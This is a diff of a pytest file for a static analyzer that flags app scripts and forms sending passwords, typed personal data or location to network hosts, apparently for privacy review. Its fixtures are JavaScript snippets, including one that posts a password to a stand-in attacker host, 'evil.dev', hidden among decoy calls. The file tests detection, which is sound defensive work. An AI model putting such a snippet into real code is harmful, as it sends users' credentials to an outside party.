@@ -26,17 +26,18 @@ def kinds(found: Iterable[PageRequest]) -> set[str]:
     [
         "$.post('https://a.dev/in', {password: p})",
         "jQuery.get('https://a.dev/in?password=' + $('#p').val(), done)",
-        "$.ajax({url: 'https://a.dev/in', success: function (r) { go(r) }, data: {user_pass: p}})",
+        "$.ajax({url: 'https://a.dev/in', success: function (r) { go(r) }, data: {user_pwd: p}})",
         "fetch('https://a.dev/in', {method: 'POST', body: JSON.stringify({userPassword: p})})",
         "fetch(`https://a.dev/in?pwd=${p}`)",
         "axios({method: 'post', url: 'https://a.dev/in', data: {senha: s}})",
-        "this.http.post(this.base + 'https://a.dev/in', {password: p})",
+        "this.http.post('https://a.dev/in', {password: p})",
         "$http.post('https://a.dev/in', {contrasena: p})",
         "G.post('https://a.dev/in', {password: p})",
         "x.open('POST', u); x.send('password=' + p)",
         "auth.signInWithEmailAndPassword(a, b)",
         "var d = {password: p}; $.post('https://a.dev/in', d, done)",
         "var d = new FormData(); d.append('password', p); fetch('https://a.dev/in', {body: d})",
+        "$.post('https://a.dev/in', {user: u, pass: p})",
         "this.http.post('https://a.dev/login', user)",
         "this.http.post(this.base + 'auth/login/', user)",
     ],
@@ -44,13 +45,7 @@ def kinds(found: Iterable[PageRequest]) -> set[str]:
 def test_a_password_that_is_sent(call: str) -> None:
     (found,) = [one for one in sent(f"function f() {{ {call} }}") if one.data == "password"]
     assert found.where == "assets/www/a.js"
-    assert found.url in (
-        None,
-        "https://a.dev/in",
-        "https://a.dev/in?password=",
-        "https://a.dev/in?pwd=",
-        "https://a.dev/login",
-    )
+    assert (found.url or "https://a.dev/").startswith("https://a.dev/")
     assert call.encode().find(found.shown.split("(")[0].encode()) >= 0
 
 
@@ -58,33 +53,52 @@ def test_a_password_that_is_sent(call: str) -> None:
     "call",
     [
         "$.post('https://a.dev/in', {password: 'fixed'})",
-        "$.post('https://a.dev/in', {passwordToken: t})",
+        "var KEY = 's3cret'; $.post('https://a.dev/in', {user: 'app', password: KEY})",
+        "$.post('https://a.dev/in', {passwordToken: t, hasPassword: h, passwordChanged: c, boardingPass: b, pass: q})",
         "$.post('https://a.dev/in', {name: n}, function (r) { keep({password: r.p}) })",
         "keep({password: p})",
         "localStorage.setItem('password', p)",
-        "db.put({password: p})",
+        "db.put('users/' + id, {password: p})",
+        "worker.send('password=' + p)",
         "cache.get('password')",
         "// $.post('https://a.dev/in', {password: p})",
+        "/*\n$.post('https://a.dev/in', {password: p})\n*/",
+        f"// {'x' * 200} $.post('https://a.dev/in', {{password: p}})",
+        "router.post('/login', auth.login); app.post('/register', valid, register)",
         "this.http.post('https://a.dev/catalogin', user)",
+        "this.http.post('https://a.dev/push/login/google', token)",
         "this.http.post('https://a.dev/login/' + number)",
+        "var d = {token: t}; this.http.post('https://a.dev/login', d)",
         "$.post('https://a.dev/in', {email: e, phone: n})",
         "$.get('https://a.dev/in?lat=' + a.lat + '&lon=' + a.lon)",
+        "function login() { var d = {password: p}; keep(d) } function track(d) { $.post('https://a.dev/t', d) }",
+        "var d = {password: p}; m.score = function (d) { $.post('https://a.dev/t', d) }",
     ],
 )
 def test_what_sends_no_password(call: str) -> None:
     assert sent(call) == ()
 
 
-def test_a_password_in_no_field_of_a_page_is_nobodys() -> None:
-    call = "$.post('https://a.dev/in', {password: p})"
-    assert sent(call, page="<p>no field</p>") == ()
-    for field in (
+@pytest.mark.parametrize(
+    "page",
+    ["<p>no field</p>", "<style>input[type=password]{}</style>", "<script>$('input[type=\"password\"]')</script>"],
+)
+def test_a_password_in_no_field_of_a_page_is_nobodys(page: str) -> None:
+    assert sent("$.post('https://a.dev/in', {password: p})", page=page) == ()
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
         '["type","password"]',
         'type:b?"text":"password"',
         '"type",x.isHidden?"password":"text"',
+        "type:`password`",
         "secureTextEntry:!0",
-    ):
-        assert kinds(sent(call, page="", more=f"f({field})")) == {"password"}
+    ],
+)
+def test_a_field_that_a_script_makes(field: str) -> None:
+    assert kinds(sent("$.post('https://a.dev/in', {password: p})", page="", more=f"f({field})")) == {"password"}
 
 
 def test_what_else_is_typed_in_counts_beside_a_password() -> None:
@@ -94,38 +108,56 @@ def test_what_else_is_typed_in_counts_beside_a_password() -> None:
     assert kinds(found) == {"password", "email", "typed-phone", "typed-name", "user-name"}
 
 
+def test_a_log_in_by_phone_sends_no_e_mail() -> None:
+    assert kinds(sent("auth.signInWithPassword({phone: n, password: p})")) == {"password", "typed-phone"}
+
+
 def test_a_place_is_sent_by_a_script_that_asks_for_it() -> None:
     asks = "navigator.geolocation.getCurrentPosition(f);"
-    sends = "$.get('http://a.dev/near?lat=' + c.latitude + '&lng=' + c.longitude)"
+    sends = "$.get('http://a.dev/near?lat=' + p.coords.latitude + '&lng=' + p.coords.longitude)"
     assert kinds(sent(asks + sends, page="")) == {"location"}
-    assert kinds(sent(asks + "fetch('http://a.dev/', {body: {latitude: a, longitude: b}})", page="")) == {"location"}
-    assert sent(f"// {asks}\n{sends}", page="") == sent(sends, page="") == ()
-    assert sent(asks + "$.get('http://a.dev/near?lat=' + c.latitude)", page="") == ()
+    named = "var x = p.coords.latitude; var y = p.coords.longitude; fetch('http://a.dev/', {body: {lat: x, long: y}})"
+    assert kinds(sent(asks + named, page="")) == {"location"}
+    assert sent(f"// {asks}\n{sends}", page="") == sent(f"/* {asks} */{sends}", page="") == sent(sends, page="") == ()
+    assert sent(asks + "$.get('http://a.dev/near?lat=' + p.coords.latitude)", page="") == ()
+    assert sent(asks + "$.get('http://a.dev/near?lat=' + town.lat + '&lng=' + town.lng)", page="") == ()
 
 
 @pytest.mark.parametrize(
     ("script", "url"),
     [
         ("$.post(API + '/in', {password: p})", "http://a.dev/v1"),
+        ("$.post(cfg.API + '/in', {password: p})", "http://a.dev/v1"),
         ("fetch(`${API}/in`, {body: {password: p}})", "http://a.dev/v1"),
         ("var u = API + '/in'; $.post(u, {password: p})", "http://a.dev/v1"),
         ("$.post('http://b.dev/in', {password: p})", "http://b.dev/in"),
+        ("$.ajax({data: {back: 'http://a.dev/cb', password: p}, url: 'https://b.dev/in'})", "https://b.dev/in"),
+        ("$.ajax({url: base, headers: {SOAPAction: 'http://tempuri.org/x'}, data: {password: p}})", None),
+        ("axios.post(there(), {password: p, redirect_uri: 'http://localhost/cb'})", None),
+        ("$.post(DEBUG ? 'http://a.dev/in' : 'https://a.dev/in', {password: p})", None),
+        ("$.post('http://a.dev'.replace('http:', 'https:'), {password: p})", None),
+        ("function f(u = 'http://localhost') { $.post(u, {password: p}) }", None),
+        ("function g() { var u = 'http://a.dev/help' } function f(u) { $.post(u, {password: p}) }", None),
         ("$.post(TWO + '/in', {password: p})", None),
-        ("$.post(other(), {password: p})", None),
+        ("$.post(OLD + '/in', {password: p})", None),
+        ("$.post(cfg.url, {password: p}, API)", None),
     ],
 )
 def test_where_it_is_sent(script: str, url: str | None) -> None:
-    more = "var API   = 'http://a.dev/v1'; var TWO = 'http://c.dev/'; TWO = 'https://d.dev/'"
+    more = (
+        "var API   = 'http://a.dev/v1'; var TWO = 'http://c.dev/'; TWO = 'https://d.dev/'\n// var OLD = 'http://e.dev/'"
+    )
     (found,) = sent(script, settings=more)
     assert found.url == url
 
 
-def test_a_form_that_sends_it_itself() -> None:
-    form = '<form method="post" action="http://a.dev/in"><input name="u"><input name="p" type="password"></form>'
+@pytest.mark.parametrize("end", ["</form>", "</FORM >"])
+def test_a_form_that_sends_it_itself(end: str) -> None:
+    form = f'<form method="post" action="http://a.dev/in"><input name="u"><input name="p" type="password">{end}'
     (found,) = sent("", page=form)
     assert (found.where, found.at, found.data, found.url) == ("assets/www/index.html", 0, "password", "http://a.dev/in")
     search = '<form action="http://a.dev/find"><input name="q"></form>'
-    assert sent("", page=search + FIELD) == ()
+    assert sent("", page=search + FIELD) == sent("", page=f"<!-- {form} -->") == ()
 
 
 def test_bytes_are_counted_where_letters_take_several() -> None:
@@ -135,11 +167,31 @@ def test_bytes_are_counted_where_letters_take_several() -> None:
     assert found.shown.endswith("'é'})")
 
 
+def test_many_alike_keep_out_no_other() -> None:
+    decoys = "auth.signInWithPassword(a);" * 300
+    found = sent(decoys, b="$.post('http://evil.dev/in', {password: p})")
+    assert "http://evil.dev/in" in {one.url for one in found}
+
+
+def too_much(**files: str) -> bool:
+    found = look({f"assets/{name}.js": text.encode() for name, text in files.items()})
+    return [(one.subject, one.code) for one in found.skipped] == [("", "too-much-script")]
+
+
 def test_more_than_is_looked_at_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
+    call = "fetch('/a?pwd=' + p);"
+    assert too_much(a=call * 401)
+    assert not too_much(a=call * 400)
+    assert too_much(a="".join(f"fetch('http://a.dev/{number}?pwd=' + p);" for number in range(201)))
     monkeypatch.setattr(page_requests, "_MOST_BYTES", 100)
-    found = look({"assets/a.js": b"x" * 101, "assets/b.txt": b"y" * 200})
-    assert [(one.subject, one.code) for one in found.skipped] == [("", "too-much-script")]
-    assert look({"assets/a.js": b"x" * 100}).skipped == ()
+    assert too_much(a="x" * 101)
+    assert not too_much(a="x" * 100)
+    assert look({"assets/b.svg": b"<svg>" + b"y" * 200}).skipped == ()
+
+
+def test_expressions_without_end_are_read_within_a_budget(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(page_requests, "_MOST_CHARACTERS", 10_000)
+    assert too_much(a="pass; a=b=c=[" + "fetch(a, b, c);" * 50)
 
 
 @pytest.mark.promise("bombs-bounded")
@@ -164,3 +216,18 @@ def test_more_than_is_looked_at_is_told(monkeypatch: pytest.MonkeyPatch) -> None
 )
 def test_hostile_scripts_are_read_within_bounds(piece: str) -> None:
     assert len(sent(FIELD + piece * ((1 << 18) // len(piece)))) <= page_requests._MOST
+
+
+@pytest.mark.promise("bombs-bounded")
+@pytest.mark.parametrize(
+    ("begin", "piece", "end"),
+    [
+        ("<form action=http://", "a", ""),
+        ("<form ", ' action="http://a', ""),
+        ("password; fetch('/a', {", "login", "x: p})"),
+        ("password; fetch('/a', ", "(", ")"),
+    ],
+)
+def test_what_never_ends_is_left_soon(begin: str, piece: str, end: str) -> None:
+    page = begin + piece * (1 << 14) + end
+    assert sent(page, page=page + FIELD) == ()
